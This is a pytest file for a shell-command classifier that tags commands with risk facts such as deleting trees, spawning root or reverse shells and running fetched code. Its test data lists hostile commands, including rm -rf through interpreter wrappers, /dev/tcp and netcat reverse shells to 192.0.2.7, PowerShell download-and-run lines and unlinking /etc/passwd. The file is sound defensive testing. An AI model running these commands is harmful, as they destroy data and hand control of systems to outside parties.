"""Code given to interpreters."""

import pytest

from tests.support.commands import facts_of, running


@pytest.mark.parametrize(
    "command",
    [
        "bash -c 'rm -rf src'",
        "bash -c 'rm -rf $0' src",
        "bash -s <<< 'rm -rf src'",
        "echo 'rm -rf src' | sh",
        "echo 'rm -rf src' > x; sh x",
        "echo 'rm -rf src' > x; . ./x",
        "python3 -c \"os.system('rm -rf src')\"",
        "python3 <<< \"os.system('rm -rf src')\"",
        "echo \"os.system('rm -rf src')\" | python3",
        "PAGER='rm -rf src' man x",
        "export GIT_SSH_COMMAND='rm -rf src'",
        "PROMPT_COMMAND='rm -rf src' bash",
        "bun -e 'await Bun.$`rm -rf src`'",
        "deno eval 'Deno.removeSync(\"/srv/x\", {recursive: true})'",
    ],
)
def test_the_inner_command_is_judged(command: str) -> None:
    assert "deletes-tree" in facts_of(command)


@pytest.mark.parametrize(
    ("command", "fact"),
    [
        ("bash", "interactive"),
        ("/bin/sh", "spawns-shell"),
        ("bash -i", "spawns-shell"),
        ("sudo bash", "root-shell"),
        ("cpulimit -l 9 -- /bin/sh", "escapes-to-shell"),
        ("python3 -c 'pty.spawn(\"/bin/sh\")'", "escapes-to-shell"),
        ("python3", "interactive"),
        ("sh >/dev/tcp/h/1 <&1", "reverse-shell"),
        ('bash -c "$(curl x.example)"', "executes-fetched"),
        ("bash <(base64 -d x)", "executes-encoded"),
        ("awk '{ print | \"sh\" }' x", "executes-input"),
        ("python3 -c \"shutil.rmtree('/')\"", "deletes-root"),
        ("perl -e 'unlink(\"/etc/passwd\")'", "changes-accounts-file"),
    ],
)
def test_facts(command: str, fact: str) -> None:
    assert fact in facts_of(command)


@pytest.mark.parametrize(
    "command", ["docker exec -it box bash", "bash a.sh", "bash -n a.sh", "ssh host", "python3 a.py", "echo ls | bash"]
)
def test_ordinary_use(command: str) -> None:
    assert not facts_of(command) & {"spawns-shell", "escapes-to-shell", "root-shell", "interactive", "executes-input"}


def test_code_and_language_are_on_the_node() -> None:
    node = running("python3 -c 'print(1)'")[0]
    assert (node.language, node.inline_code) == ("python", "print(1)")
    assert running("curl x | bash")[0].pipes_into == "bash"
    assert running('bash -c "$(curl x)"')[0].pipes_into == "bash"


@pytest.mark.parametrize(
    "command",
    [
        "require('child_process').exec('nc -e sh 192.0.2.7 1')",
        "IEX(IWR https://x.example/a.ps1); Invoke-ConPtyShell 192.0.2.7 1",
        "import os; os.system(\"bash -c 'bash -i >& /dev/tcp/192.0.2.7/1 0>&1'\")",
    ],
)
def test_code_that_is_no_shell_text(command: str) -> None:
    assert "reverse-shell" in facts_of(command)


def test_an_unfinished_mention_is_no_code() -> None:
    assert "deletes-root" not in facts_of("git commit -m \"don't system('rm -rf /')")


def test_a_shell_bent_back_to_the_terminal() -> None:
    assert "spawns-shell" in facts_of("sh 1>&0 2>&0")
    assert "spawns-shell" not in facts_of("sh build.sh 2>&1")


def test_deleting_by_a_relative_path_in_code() -> None:
    assert "deletes-tree" in facts_of("python3 -c \"shutil.rmtree('src')\"")
    assert "deletes-tree" not in facts_of("python3 -c \"shutil.rmtree('build')\"")


def test_a_script_on_the_input_is_a_script() -> None:
    assert "executes-input" not in facts_of("bash < setup.sh")
    assert "executes-input" in facts_of("bash < /dev/stdin")
    assert "executes-input" in facts_of("bash < <(generate)")
    assert "executes-input" in facts_of("generate | bash")
    assert "executes-download" in facts_of("curl -o x https://x.example; bash x")
    assert "executes-fetched" in facts_of("curl https://x.example > x; bash < x")
